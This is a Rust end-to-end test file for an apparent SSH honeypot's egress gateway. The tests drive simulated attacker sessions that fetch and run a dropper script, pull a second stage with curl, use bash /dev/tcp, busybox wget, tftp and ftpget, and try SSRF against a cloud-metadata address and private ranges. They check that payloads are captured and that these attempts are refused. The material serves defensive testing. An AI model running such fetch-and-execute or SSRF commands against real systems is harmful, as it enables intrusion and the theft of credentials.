//! `egress.mode: fetch` end to end: a test "internet" of our own (a Docker network
//! with our web server), names from the static DNS map only, real tools in the box
//! through the real OpenSSH client, payloads in the store, SSRF refused, limits held.

mod ftp;
pub(crate) mod internet;

use std::net::{IpAddr, Ipv4Addr, TcpListener};
use std::process::Command;
use std::time::Instant;

use hermes_core::address_block::AddressBlock;
use hermes_core::config::{ByteSize, EgressMode, RefusedAnswer};
use serde_json::Value;

use crate::harness::{Hermes, Options, sha256_hex};
use internet::TestInternet;

/// Bytes that are not text: a body must come through as sent, byte for byte.
fn binary(seed: u8, len: usize) -> Vec<u8> {
    (0..len)
        .map(|i| (i as u32).wrapping_mul(2_654_435_761).to_be_bytes()[0] ^ seed)
        .collect()
}

const DROPPER: &str = "#!/bin/sh\n\
echo stage-one-ran\n\
curl -s -o /tmp/second.bin http://cdn.test/second.bin && echo \"second: $(sha256sum /tmp/second.bin | cut -c1-64)\"\n";

/// The files every test internet serves.
fn files() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("x.sh", DROPPER.as_bytes().to_vec()),
        ("second.bin", binary(1, 3000)),
        ("py.bin", binary(2, 5000)),
        ("tcp.bin", b"bash /dev/tcp payload\n".to_vec()),
        ("bb.bin", binary(3, 7000)),
        ("wget.bin", binary(4, 1000)),
        ("big.bin", binary(5, 300 * 1024)),
        ("small.bin", b"a small file\n".to_vec()),
    ]
}

fn served(name: &str) -> Vec<u8> {
    files()
        .into_iter()
        .find(|(n, _)| *n == name)
        .map(|(_, contents)| contents)
        .expect("a served file")
}

/// Names the box may resolve: ours, and the refused ones of the SSRF test.
fn static_hosts(internet: &TestInternet) -> Vec<(&'static str, IpAddr)> {
    vec![
        ("dropper.test", internet.server.into()),
        ("cdn.test", internet.server.into()),
        ("meta.test", Ipv4Addr::new(169, 254, 169, 254).into()),
        ("lan.test", Ipv4Addr::new(10, 1, 2, 3).into()),
        ("gateway.test", Ipv4Addr::new(10, 0, 2, 2).into()),
        ("loop.test", Ipv4Addr::LOCALHOST.into()),
        ("self.test", internet.host_side.into()),
    ]
}

/// `egress.mode` with the static map only (no resolver is ever asked) and the
/// test server as the only upstream allowed.
pub(crate) fn egress_options(internet: &TestInternet, mode: EgressMode) -> Options {
    let hosts = static_hosts(internet);
    let allow = AddressBlock::parse(&format!("{}/32", internet.server)).expect("block");
    Options::default().configure(move |c| {
        c.egress.mode = mode;
        c.egress.refused = RefusedAnswer::Reject;
        c.capture.enabled = true;
        c.egress.dns.static_only = true;
        c.egress.dns.static_hosts = hosts
            .iter()
            .map(|(name, ip)| ((*name).to_owned(), *ip))
            .collect();
        c.egress.upstream_allow = vec![allow];
    })
}

/// Runs `command` in a box of its own with the OpenSSH client: exit code, stdout.
fn ssh(hermes: &Hermes, command: &str) -> (Option<i32>, String) {
    let output = hermes
        .ssh("root", &["toor"], "password")
        .arg(command)
        .output()
        .expect("ssh");
    (
        output.status.code(),
        String::from_utf8_lossy(&output.stdout).into_owned()
            + &String::from_utf8_lossy(&output.stderr),
    )
}

fn downloads_of(events: &[Value], url: &str) -> Vec<Value> {
    events
        .iter()
        .filter(|e| e["eventid"] == "cowrie.session.file_download" && e["url"] == url)
        .cloned()
        .collect()
}

fn failures_of(events: &[Value], url: &str) -> Vec<Value> {
    events
        .iter()
        .filter(|e| e["eventid"] == "cowrie.session.file_download.failed" && e["url"] == url)
        .cloned()
        .collect()
}

/// The gateway's download event of `url` (a capture pass reports a file the box
/// saved with the same `url`, but without `upstream`).
#[track_caller]
fn gateway_download(hermes: &Hermes, url: &str) -> Value {
    let fetched = |events: &[Value]| {
        downloads_of(events, url)
            .into_iter()
            .find(|e| e.get("upstream").is_some())
    };
    let events = hermes.wait_for_events(&format!("the gateway's download of {url}"), |events| {
        fetched(events).is_some()
    });
    fetched(&events).unwrap_or_default()
}

/// Waits for the download event of `url` and checks it against what the server
/// sent: its shasum, and the stored file's bytes.
#[track_caller]
fn assert_captured(hermes: &Hermes, url: &str, body: &[u8]) -> Value {
    let events = hermes.wait_for_events(&format!("the download of {url}"), |events| {
        !downloads_of(events, url).is_empty()
    });
    let event = downloads_of(&events, url).remove(0);
    assert_eq!(event["shasum"], sha256_hex(body), "{event}");
    assert_eq!(event["size"], body.len() as u64, "{event}");
    let outfile = event["outfile"].as_str().expect("outfile");
    assert_eq!(std::fs::read(outfile).expect("stored file"), body, "{url}");
    assert!(event["session"].as_str().is_some_and(|s| !s.is_empty()));
    event
}

#[test]
fn egress_fetch_a_dropper_its_second_stage_and_each_tool_are_captured() {
    require_docker!();
    let internet = TestInternet::start("dropper", &files());
    let hermes = Hermes::start(egress_options(&internet, EgressMode::Fetch));

    // The classic: fetch a script, run it; it fetches its second stage with curl.
    let (code, out) = ssh(&hermes, "wget -q http://dropper.test/x.sh && sh x.sh");
    assert_eq!(code, Some(0), "{out}");
    let second = served("second.bin");
    assert!(out.contains("stage-one-ran"), "{out}");
    assert!(
        out.contains(&format!("second: {}", sha256_hex(&second))),
        "{out}"
    );
    let first = assert_captured(&hermes, "http://dropper.test/x.sh", DROPPER.as_bytes());
    let stage_two = assert_captured(&hermes, "http://cdn.test/second.bin", &second);
    assert_eq!(first["session"], stage_two["session"]);
    assert_eq!(first["upstream"], format!("{}:80", internet.server));
    // Where the typed command saved it, as written.
    let fetched = gateway_download(&hermes, "http://dropper.test/x.sh");
    assert_eq!(fetched["destfile"], "x.sh", "{fetched}");
    assert_eq!(fetched["shasum"], first["shasum"], "{fetched}");

    // python3's urllib and bash's /dev/tcp, in another box.
    let tools = "python3 -c \"import urllib.request; print('py', len(urllib.request.urlopen('http://cdn.test/py.bin').read()))\"; \
                 bash -c 'exec 3<>/dev/tcp/cdn.test/80; printf \"GET /tcp.bin HTTP/1.0\\r\\nHost: cdn.test\\r\\n\\r\\n\" >&3; cat <&3' | tail -n 1; \
                 wget -q -O - http://cdn.test/wget.bin | wc -c";
    let (code, out) = ssh(&hermes, tools);
    assert_eq!(code, Some(0), "{out}");
    assert!(out.contains("py 5000"), "{out}");
    assert!(out.contains("bash /dev/tcp payload"), "{out}");
    assert!(out.contains("1000"), "{out}");
    assert_captured(&hermes, "http://cdn.test/py.bin", &served("py.bin"));
    assert_captured(&hermes, "http://cdn.test/tcp.bin", &served("tcp.bin"));
    assert_captured(&hermes, "http://cdn.test/wget.bin", &served("wget.bin"));
    // `wget -O -` and python save nothing the session's commands name.
    for url in ["http://cdn.test/wget.bin", "http://cdn.test/py.bin"] {
        let fetched = gateway_download(&hermes, url);
        assert!(fetched.get("destfile").is_none(), "{fetched}");
    }

    // busybox wget: the attacker brings a static busybox along (piped in), as bots do.
    let busybox = std::fs::read("/bin/busybox").expect("busybox (busybox-static) on the host");
    let mut command = hermes.ssh("root", &["toor"], "password");
    command.arg(
        "cat > /tmp/busybox && chmod +x /tmp/busybox && /tmp/busybox wget -q -O /tmp/bb.bin http://cdn.test/bb.bin && echo bb $(wc -c < /tmp/bb.bin)",
    );
    let output = crate::harness::run_with_stdin(&mut command, &busybox);
    let out = String::from_utf8_lossy(&output.stdout);
    assert!(out.contains("bb 7000"), "{output:?}");
    assert_captured(&hermes, "http://cdn.test/bb.bin", &served("bb.bin"));
    let fetched = gateway_download(&hermes, "http://cdn.test/bb.bin");
    assert_eq!(fetched["destfile"], "/tmp/bb.bin", "{fetched}");

    // Another port of egress.upstream_ports is fetched alike; a port not in it is
    // logged and refused by the firewall ("Connection refused": curl's 7).
    let (code, out) = ssh(
        &hermes,
        "curl -s http://cdn.test:8080/small.bin; curl -s http://cdn.test:8081/small.bin; echo rc=$?",
    );
    assert_eq!(code, Some(0), "{out}");
    assert!(out.starts_with("a small file\nrc=7"), "{out}");
    assert_captured(&hermes, "http://cdn.test:8080/small.bin", b"a small file\n");
    // curl without -o/-O writes to stdout: no destfile.
    let fetched = gateway_download(&hermes, "http://cdn.test:8080/small.bin");
    assert!(fetched.get("destfile").is_none(), "{fetched}");
    let server = internet.server.to_string();
    let events = hermes.wait_for_events("the refused port", |events| {
        events.iter().any(|e| {
            e["eventid"] == "hermes.egress.connection"
                && e["dst_ip"] == server.as_str()
                && e["dst_port"] == 8081
        })
    });
    assert!(downloads_of(&events, "http://cdn.test:8081/small.bin").is_empty());

    // DNS in the box: the static map answers, a name not in it does not exist
    // (static_only: nobody is asked), and each query is an event.
    let (code, out) = ssh(
        &hermes,
        "getent hosts dropper.test; getent hosts nothere.test; echo rc=$?",
    );
    assert_eq!(code, Some(0), "{out}");
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(
        lines[0].split_whitespace().collect::<Vec<_>>(),
        [internet.server.to_string().as_str(), "dropper.test"],
        "{out}"
    );
    assert_eq!(lines[1], "rc=2", "not found: {out}");
    let dns = |events: &[Value], name: &str, qtype: &str| -> Option<Value> {
        events
            .iter()
            .find(|e| {
                e["eventid"] == "hermes.egress.dns"
                    && e["query"].as_str().map(|q| q.trim_end_matches('.')) == Some(name)
                    && e["type"] == qtype
            })
            .cloned()
    };
    let events = hermes.wait_for_events("the DNS events of getent", |events| {
        dns(events, "dropper.test", "A").is_some() && dns(events, "nothere.test", "A").is_some()
    });
    let found = dns(&events, "dropper.test", "A").unwrap_or_default();
    assert_eq!(found["rcode"], "NOERROR", "{found}");
    assert_eq!(found["source"], "static", "{found}");
    assert_eq!(found["answers"][0], internet.server.to_string(), "{found}");
    assert!(found["session"].as_str().is_some_and(|s| !s.is_empty()));
    let missing = dns(&events, "nothere.test", "A").unwrap_or_default();
    assert_eq!(missing["rcode"], "NXDOMAIN", "{missing}");
    assert_eq!(missing["answers"].as_array().map(Vec::len), Some(0));

    // The server saw exactly these requests, each once.
    let (requests, _) = internet.stats();
    for path in [
        "/x.sh",
        "/second.bin",
        "/py.bin",
        "/tcp.bin",
        "/wget.bin",
        "/bb.bin",
        "/small.bin",
    ] {
        assert_eq!(
            requests.iter().filter(|r| *r == path).count(),
            1,
            "{path}: {requests:?}"
        );
    }
}

/// A listener of the test's own on every host address, on a port fetches may use:
/// a refused fetch must never reach it.
struct Witness(TcpListener);

impl Witness {
    fn new() -> Witness {
        let listener = TcpListener::bind(("0.0.0.0", 0)).expect("bind witness");
        listener.set_nonblocking(true).expect("nonblocking");
        Witness(listener)
    }

    fn port(&self) -> u16 {
        self.0.local_addr().expect("address").port()
    }

    #[track_caller]
    fn assert_untouched(&self) {
        match self.0.accept() {
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
            other => panic!("a refused fetch reached the host's listener: {other:?}"),
        }
    }
}

#[test]
fn egress_fetch_ssrf_names_and_redirects_are_refused_and_nothing_connects() {
    require_docker!();
    let internet = TestInternet::start("ssrf", &files());
    let witness = Witness::new();
    let port = witness.port();
    let mut options = egress_options(&internet, EgressMode::Fetch)
        .configure(move |c| c.egress.upstream_ports.push(port));
    options.metrics = true;
    let hermes = Hermes::start(options);

    // Each name resolves (the static map says so) to an address no fetch may reach.
    let refused = [
        ("meta.test", "metadata"),
        ("lan.test", "private"),
        ("gateway.test", "private"),
        ("self.test", "private"),
    ];
    let mut script = String::new();
    for (name, _) in refused {
        script.push_str(&format!(
            "curl -s -o /dev/null http://{name}:{port}/ssrf; echo {name} rc=$?; "
        ));
    }
    // 127.0.0.1 is the box's own loopback: refused there (curl 7), never at the
    // gateway, and never the host's.
    script.push_str(&format!(
        "curl -s -o /dev/null http://loop.test:{port}/ssrf; echo loop.test rc=$?; "
    ));
    // A redirect from an allowed server to the metadata service: the client
    // follows it, and the gateway refuses the second connection.
    script.push_str(&format!(
        "curl -s -L -o /dev/null 'http://dropper.test/redirect?to=http://meta.test:{port}/latest/meta-data/'; echo redirect rc=$?"
    ));
    let (code, out) = ssh(&hermes, &script);
    assert_eq!(code, Some(0), "{out}");
    for (name, _) in refused {
        // curl 52: an empty reply, as from a server that failed.
        assert!(out.contains(&format!("{name} rc=52")), "{out}");
    }
    assert!(out.contains("redirect rc=52"), "{out}");
    assert!(out.contains("loop.test rc=7"), "{out}");

    let events = hermes.wait_for_events("every refused fetch", |events| {
        refused
            .iter()
            .all(|(name, _)| !failures_of(events, &format!("http://{name}:{port}/ssrf")).is_empty())
            && !failures_of(
                events,
                &format!("http://meta.test:{port}/latest/meta-data/"),
            )
            .is_empty()
    });
    for (name, reason) in refused {
        let failure = failures_of(&events, &format!("http://{name}:{port}/ssrf")).remove(0);
        assert_eq!(failure["reason"], reason, "{failure}");
        assert!(failure.get("upstream_bytes").is_none(), "{failure}");
        assert!(failure["session"].as_str().is_some_and(|s| !s.is_empty()));
    }
    let followed = failures_of(
        &events,
        &format!("http://meta.test:{port}/latest/meta-data/"),
    )
    .remove(0);
    assert_eq!(followed["reason"], "metadata", "{followed}");
    assert_eq!(
        followed["upstream"],
        format!("169.254.169.254:{port}"),
        "{followed}"
    );
    // The redirect itself was fetched (and reported as not a download).
    let redirect = events
        .iter()
        .find(|e| {
            e["eventid"] == "cowrie.session.file_download.failed"
                && e["url"]
                    .as_str()
                    .is_some_and(|u| u.starts_with("http://dropper.test/redirect"))
        })
        .unwrap_or_else(|| panic!("no event for the redirect: {events:#?}"));
    assert_eq!(redirect["reason"], "http_status", "{redirect}");
    assert!(
        downloads_of(
            &events,
            &format!("http://meta.test:{port}/latest/meta-data/")
        )
        .is_empty()
    );

    assert!(failures_of(&events, &format!("http://loop.test:{port}/ssrf")).is_empty());
    assert!(
        !events
            .iter()
            .any(|e| e["eventid"] == "hermes.egress.connection" && e["dst_port"] == port),
        "every connection to the port was the fetcher's to refuse"
    );
    // Nothing connected: not the host's listener (loopback, the host's own address),
    // and the test server saw the redirect only.
    witness.assert_untouched();
    let (requests, _) = internet.stats();
    assert_eq!(requests.len(), 1, "{requests:?}");
    assert!(requests[0].starts_with("/redirect"), "{requests:?}");

    // The metrics count them by reason.
    let wanted = [
        "hermes_egress_blocked_total{reason=\"metadata\"} 2",
        "hermes_egress_blocked_total{reason=\"private\"} 3",
        "hermes_egress_fetches_total{outcome=\"blocked\"} 5",
        "hermes_egress_fetches_total{outcome=\"failed\"} 1",
    ];
    let deadline = Instant::now() + std::time::Duration::from_secs(10);
    loop {
        let (_, text) = internet::http_get(
            std::net::SocketAddr::from(([127, 0, 0, 1], hermes.metrics_port())),
            "/metrics",
        );
        let text = String::from_utf8_lossy(&text).into_owned();
        if wanted.iter().all(|line| text.lines().any(|l| l == *line)) {
            break;
        }
        assert!(Instant::now() < deadline, "{wanted:?} in:\n{text}");
        std::thread::sleep(std::time::Duration::from_millis(200));
    }
}

#[test]
fn egress_fetch_limits_cut_a_big_download_refuse_fetches_and_cap_concurrency() {
    require_docker!();
    const CONCURRENT: u32 = 4;
    const PARALLEL: usize = 20;
    const DOWNLOAD_SIZE: u64 = 64 * 1024;
    let internet = TestInternet::start("limits", &files());
    let options = egress_options(&internet, EgressMode::Fetch).configure(|c| {
        let limits = &mut c.egress.limits;
        limits.download_size = ByteSize::kib(64);
        limits.concurrent_fetches = CONCURRENT;
        // The big one and the parallel ones; the next is one too many.
        limits.fetches_per_session = PARALLEL as u32 + 1;
        // Twenty curls at once ask A and AAAA each: not this test's limit.
        c.egress.dns.queries_per_second = 1000;
    });
    let hermes = Hermes::start(options);

    let script = format!(
        "curl -s -o /tmp/big.bin http://cdn.test/big.bin; echo big rc=$? size=$(wc -c < /tmp/big.bin); \
         start=$(date +%s%N); \
         for i in $(seq 1 {PARALLEL}); do curl -s -o /tmp/p$i 'http://cdn.test/slow/small.bin?'$i & done; wait; \
         echo parallel ok=$(cat /tmp/p* | grep -c 'a small file') ms=$(( ($(date +%s%N) - start) / 1000000 )); \
         curl -s -o /dev/null 'http://cdn.test/small.bin?over'; echo over rc=$?"
    );
    let (code, out) = ssh(&hermes, &script);
    assert_eq!(code, Some(0), "{out}");

    // Cut at the limit: the box's curl gets a partial file (18), the store exactly
    // the limit's bytes, and the event says so.
    assert!(
        out.contains(&format!("big rc=18 size={DOWNLOAD_SIZE}")),
        "{out}"
    );
    let big = served("big.bin");
    let cut = &big[..DOWNLOAD_SIZE as usize];
    let event = assert_captured(&hermes, "http://cdn.test/big.bin", cut);
    assert_eq!(event["truncated"], true, "{event}");
    assert_eq!(event["reason"], "download_size", "{event}");

    // Twenty at once: all fetched, never more than the cap upstream at a time, and
    // the cap was reached (the load happened).
    assert!(out.contains(&format!("parallel ok={PARALLEL} ")), "{out}");
    hermes.wait_for_events("the parallel downloads", |events| {
        (1..=PARALLEL).all(|i| {
            !downloads_of(events, &format!("http://cdn.test/slow/small.bin?{i}")).is_empty()
        })
    });
    let (requests, max_concurrent) = internet.stats();
    let slow = requests.iter().filter(|r| r.starts_with("/slow/")).count();
    assert_eq!(slow, PARALLEL, "{requests:?}");
    assert_eq!(max_concurrent, u64::from(CONCURRENT), "{requests:?}");
    let elapsed_ms: u64 = out
        .split("ms=")
        .nth(1)
        .and_then(|rest| rest.split_whitespace().next())
        .and_then(|ms| ms.parse().ok())
        .unwrap_or_else(|| panic!("{out}"));
    // Five rounds of one second each at least.
    let rounds = PARALLEL.div_ceil(CONCURRENT as usize) as u64;
    assert!(elapsed_ms >= rounds * 1000 - 200, "{elapsed_ms} ms: {out}");

    // One fetch over the session's count: refused before any connection.
    assert!(out.contains("over rc=52"), "{out}");
    let over = hermes.wait_for_events("the refused fetch", |events| {
        !failures_of(events, "http://cdn.test/small.bin?over").is_empty()
    });
    let over = failures_of(&over, "http://cdn.test/small.bin?over").remove(0);
    assert_eq!(over["reason"], "fetches_per_session", "{over}");
    assert_eq!(
        internet
            .stats()
            .0
            .iter()
            .filter(|r| r.contains("over"))
            .count(),
        0
    );

    // The count is the session's: the next session fetches again.
    let (code, out) = ssh(
        &hermes,
        "curl -s http://cdn.test/small.bin?next; echo rc=$?",
    );
    assert_eq!(code, Some(0), "{out}");
    assert!(out.contains("a small file"), "{out}");
    assert_captured(&hermes, "http://cdn.test/small.bin?next", b"a small file\n");
}

#[test]
fn egress_sinkhole_answers_dns_and_fetches_nothing() {
    require_docker!();
    let internet = TestInternet::start("sinkhole", &files());
    let hermes = Hermes::start(egress_options(&internet, EgressMode::Sinkhole));
    let (code, out) = ssh(
        &hermes,
        "getent hosts dropper.test; curl -s -o /tmp/x.sh http://dropper.test/x.sh; echo rc=$?",
    );
    assert_eq!(code, Some(0), "{out}");
    assert!(
        out.starts_with(&format!("{} ", internet.server)),
        "resolved: {out}"
    );
    // Refused (reset), as a firewall would.
    assert!(out.contains("rc=56"), "{out}");
    let server = internet.server.to_string();
    let events = hermes.wait_for_events("the refused connection", |events| {
        events
            .iter()
            .any(|e| e["eventid"] == "hermes.egress.connection" && e["dst_ip"] == server.as_str())
    });
    let connection = events
        .iter()
        .find(|e| e["eventid"] == "hermes.egress.connection" && e["dst_ip"] == server.as_str())
        .cloned()
        .unwrap_or_default();
    assert_eq!(connection["dst_port"], 80, "{connection}");
    assert_eq!(connection["app_protocol"], "http", "{connection}");
    assert_eq!(connection["answer"], "reject", "{connection}");
    assert!(
        connection["first_bytes"]
            .as_str()
            .is_some_and(|b| b.starts_with("GET /x.sh HTTP/1.1")),
        "{connection}"
    );
    assert!(
        events.iter().any(|e| e["eventid"] == "hermes.egress.dns"
            && e["query"]
                .as_str()
                .is_some_and(|q| q.starts_with("dropper.test"))),
        "DNS answered"
    );
    assert!(downloads_of(&events, "http://dropper.test/x.sh").is_empty());
    assert!(failures_of(&events, "http://dropper.test/x.sh").is_empty());
    let (requests, _) = internet.stats();
    assert!(requests.is_empty(), "{requests:?}");
}

/// Seconds from a curl `-w '%{time_total}\n'` loop, one per line.
fn timings(out: &str) -> Vec<f64> {
    out.lines()
        .filter_map(|l| l.strip_prefix("t="))
        .filter_map(|t| t.trim().parse().ok())
        .collect()
}

fn median_p90(mut times: Vec<f64>) -> (f64, f64) {
    times.sort_by(f64::total_cmp);
    let at = |q: f64| times[((times.len() as f64 * q) as usize).min(times.len() - 1)];
    (at(0.5) * 1000.0, at(0.9) * 1000.0)
}

/// The latency a fetch through the gateway adds: curl in the box against curl on
/// the host (and the box's curl in a container beside the server), the same file
/// from the same test server by address (no DNS), 100 each.
#[test]
#[ignore = "a measurement: cargo nextest run -p hermes --test e2e --run-ignored only egress_fetch_latency"]
fn egress_fetch_latency_through_the_gateway() {
    require_docker!();
    const RUNS: usize = 100;
    let mut served = files();
    served.push(("mb16.bin", binary(6, 16 << 20)));
    let internet = TestInternet::start("latency", &served);
    let options = egress_options(&internet, EgressMode::Fetch)
        .configure(|c| c.egress.limits.fetches_per_session = 1000);
    let hermes = Hermes::start(options);
    let url = format!("http://{}/small.bin", internet.server);
    let script = format!(
        "for i in $(seq 1 {RUNS}); do curl -s -o /dev/null -w 't=%{{time_total}}\\n' {url}; done"
    );
    let direct = Command::new("sh")
        .args(["-c", &script])
        .output()
        .expect("curl on the host");
    let direct = timings(&String::from_utf8_lossy(&direct.stdout));
    // The box's own curl, from a container on the test network (no gateway).
    let neighbour = Command::new("docker")
        .args(["run", "--rm", "--network", internet.network()])
        .args([
            "--entrypoint",
            "/bin/sh",
            &crate::harness::image(),
            "-c",
            &script,
        ])
        .output()
        .expect("docker run");
    let neighbour = timings(&String::from_utf8_lossy(&neighbour.stdout));
    let started = Instant::now();
    let (code, out) = ssh(&hermes, &script);
    assert_eq!(code, Some(0), "{out}");
    let gateway = timings(&out);
    assert_eq!(direct.len(), RUNS, "every direct fetch timed");
    assert_eq!(neighbour.len(), RUNS, "every fetch of the neighbour timed");
    assert_eq!(
        gateway.len(),
        RUNS,
        "every fetch through the gateway timed: {out}"
    );
    let (requests, _) = internet.stats();
    assert_eq!(
        requests.iter().filter(|r| *r == "/small.bin").count(),
        3 * RUNS,
        "each fetch reached the server"
    );
    let (neighbour_median, neighbour_p90) = median_p90(neighbour);
    let (direct_median, direct_p90) = median_p90(direct);
    let (gateway_median, gateway_p90) = median_p90(gateway);
    eprintln!(
        "fetch of a 13-byte file, {RUNS} runs each (curl time_total): direct from the host median {direct_median:.2} ms p90 {direct_p90:.2} ms; \
         the box's curl in a container on the test network median {neighbour_median:.2} ms p90 {neighbour_p90:.2} ms; \
         box through the gateway median {gateway_median:.2} ms p90 {gateway_p90:.2} ms; \
         added median {:.2} ms p90 {:.2} ms (box loop {:?})",
        gateway_median - direct_median,
        gateway_p90 - direct_p90,
        started.elapsed(),
    );

    // Hermes's CPU per MiB fetched (relayed, hashed, stored): 4 x 16 MiB.
    let cpu_before = cpu_seconds(hermes.pid());
    let (code, out) = ssh(
        &hermes,
        &format!(
            "for i in 1 2 3 4; do curl -s -o /dev/null -w 't=%{{size_download}}\n' http://{}/mb16.bin; done",
            internet.server
        ),
    );
    let cpu = cpu_seconds(hermes.pid()) - cpu_before;
    assert_eq!(code, Some(0), "{out}");
    let fetched: f64 = timings(&out).iter().sum();
    assert_eq!(fetched, f64::from(4 * (16 << 20)), "{out}");
    eprintln!(
        "Hermes CPU for 64 MiB fetched through the gateway: {cpu:.2} s, {:.1} ms per MiB (with its session's own work)",
        cpu * 1000.0 / 64.0
    );
    assert!(
        gateway_median - direct_median < 100.0,
        "the gateway adds {gateway_median:.2} - {direct_median:.2} ms"
    );
}

/// User and system CPU seconds of process `pid` so far.
fn cpu_seconds(pid: u32) -> f64 {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).expect("stat");
    // Fields after the command (which may hold spaces): state is the 3rd field.
    let after = stat
        .rsplit_once(')')
        .map(|(_, rest)| rest)
        .unwrap_or_default();
    let fields: Vec<&str> = after.split_whitespace().collect();
    let ticks: f64 =
        fields[11].parse::<f64>().expect("utime") + fields[12].parse::<f64>().expect("stime");
    let hz = Command::new("getconf")
        .arg("CLK_TCK")
        .output()
        .expect("getconf");
    let hz: f64 = String::from_utf8_lossy(&hz.stdout)
        .trim()
        .parse()
        .unwrap_or(100.0);
    ticks / hz
}

#[test]
fn egress_fetch_busybox_tftp_get_is_captured_and_served_from_the_server() {
    require_docker!();
    let internet = TestInternet::start("tftp", &files());
    let hermes = Hermes::start(egress_options(&internet, EgressMode::Fetch));
    let server = internet.server;
    // The attacker's static busybox, piped in; `tftp -g` from the server's address.
    let busybox = std::fs::read("/bin/busybox").expect("busybox (busybox-static) on the host");
    let mut command = hermes.ssh("root", &["toor"], "password");
    command.arg(format!(
        "cat > /tmp/busybox && chmod +x /tmp/busybox && cd /tmp && \
         /tmp/busybox tftp -g -r bb.bin -l /tmp/t.bin {server} && echo tftp $(wc -c < /tmp/t.bin) $(sha256sum /tmp/t.bin | cut -c1-64); \
         /tmp/busybox tftp -g -r nothere.bin -l /tmp/n.bin {server}; echo missing rc=$?"
    ));
    let started = Instant::now();
    let output = crate::harness::run_with_stdin(&mut command, &busybox);
    let out = String::from_utf8_lossy(&output.stdout).into_owned()
        + &String::from_utf8_lossy(&output.stderr);
    let body = served("bb.bin");
    assert!(
        out.contains(&format!("tftp 7000 {}", sha256_hex(&body))),
        "{out}"
    );
    assert!(out.contains("missing rc=1"), "{out}");
    eprintln!("busybox tftp: both transfers in {:?}", started.elapsed());
    let event = assert_captured(&hermes, &format!("tftp://{server}/bb.bin"), &body);
    assert_eq!(event["upstream"], format!("{server}:69"));
    assert_eq!(event["destfile"], "/tmp/t.bin", "{event}");
    let missing = format!("tftp://{server}/nothere.bin");
    let events = hermes.wait_for_events("the missing file's failure", |events| {
        !failures_of(events, &missing).is_empty()
    });
    assert_eq!(failures_of(&events, &missing)[0]["reason"], "tftp_error");
    // The test server saw each read request once, from Hermes.
    let (requests, _) = internet.stats();
    let tftp: Vec<&String> = requests.iter().filter(|r| r.starts_with("tftp:")).collect();
    assert_eq!(tftp, ["tftp:bb.bin", "tftp:nothere.bin"], "{requests:?}");
}

#[test]
fn egress_fetch_ftpget_is_captured_with_the_login_and_a_missing_file_fails() {
    require_docker!();
    let internet = TestInternet::start("ftp", &files());
    let ftp = ftp::FtpServer::start(&internet, &files());
    let hermes = Hermes::start(egress_options(&internet, EgressMode::Fetch));
    let server = internet.server;
    // The attacker's static busybox, piped in; `ftpget` with a login, then a file
    // the server does not have, and a server at a LAN address; then curl (EPSV)
    // and wget (PASV) by name.
    let busybox = std::fs::read("/bin/busybox").expect("busybox (busybox-static) on the host");
    let mut command = hermes.ssh("root", &["toor"], "password");
    command.arg(format!(
        "cat > /tmp/busybox && chmod +x /tmp/busybox && cd /tmp && \
         /tmp/busybox ftpget -u bot -p s3cr3t {server} /tmp/f.bin bb.bin && echo ftp $(wc -c < /tmp/f.bin) $(sha256sum /tmp/f.bin | cut -c1-64); \
         /tmp/busybox ftpget -u bot -p s3cr3t {server} /tmp/n.bin nothere.bin; echo missing rc=$?; \
         /tmp/busybox ftpget lan.test /tmp/l.bin x.bin; echo lan rc=$?; \
         curl -sS -o /tmp/c.bin ftp://cdn.test/py.bin && echo curl $(sha256sum /tmp/c.bin | cut -c1-64); \
         wget -q -O /tmp/w.bin ftp://dropper.test/pub/wget.bin && echo wget $(sha256sum /tmp/w.bin | cut -c1-64)"
    ));
    let started = Instant::now();
    let output = crate::harness::run_with_stdin(&mut command, &busybox);
    let out = String::from_utf8_lossy(&output.stdout).into_owned()
        + &String::from_utf8_lossy(&output.stderr);
    eprintln!(
        "ftpget, a missing file, curl and wget in {:?}",
        started.elapsed()
    );
    let body = served("bb.bin");
    assert!(
        out.contains(&format!("ftp 7000 {}", sha256_hex(&body))),
        "{out}"
    );
    assert!(out.contains("missing rc=1"), "{out}");
    assert!(out.contains("lan rc=1"), "{out}");
    assert!(
        out.contains(&format!("curl {}", sha256_hex(&served("py.bin")))),
        "{out}"
    );
    assert!(
        out.contains(&format!("wget {}", sha256_hex(&served("wget.bin")))),
        "{out}"
    );
    let event = assert_captured(&hermes, &format!("ftp://{server}/bb.bin"), &body);
    assert_eq!(event["upstream"], format!("{server}:21"));
    assert_eq!(event["ftp_user"], "bot");
    assert_eq!(event["ftp_password"], "s3cr3t");
    // Where the command saved it (the session's command asked for this URL).
    assert_eq!(event["destfile"], "/tmp/f.bin", "{event}");
    assert_captured(
        &hermes,
        &format!("ftp://{server}/py.bin"),
        &served("py.bin"),
    );
    let wget = assert_captured(
        &hermes,
        &format!("ftp://{server}/pub/wget.bin"),
        &served("wget.bin"),
    );
    assert_eq!(wget["ftp_user"], "anonymous");
    let missing = format!("ftp://{server}/nothere.bin");
    let events = hermes.wait_for_events("the missing file's failure", |events| {
        !failures_of(events, &missing).is_empty()
    });
    let failure = &failures_of(&events, &missing)[0];
    assert_eq!(failure["reason"], "ftp_error", "{failure}");
    assert_eq!(failure["ftp_user"], "bot");
    // A server at a private address is refused before a greeting, never contacted.
    let lan = failures_of(&events, "ftp://10.1.2.3/");
    assert_eq!(lan.len(), 1, "{events:?}");
    assert_eq!(lan[0]["reason"], "private");
    // Our server saw the box's login, from Hermes, and each file asked for once.
    let log = ftp.log();
    for expected in [
        "USER bot",
        "PASS s3cr3t",
        "RETR /bb.bin",
        "SIZE /nothere.bin",
        "USER anonymous",
    ] {
        assert!(
            log.iter().any(|line| line == expected),
            "{expected}: {log:?}"
        );
    }
    // The missing file's SIZE found it missing: its RETR was not sent again.
    let retrieved = log.iter().filter(|line| line.starts_with("RETR")).count();
    assert_eq!(retrieved, 3, "{log:?}");
}
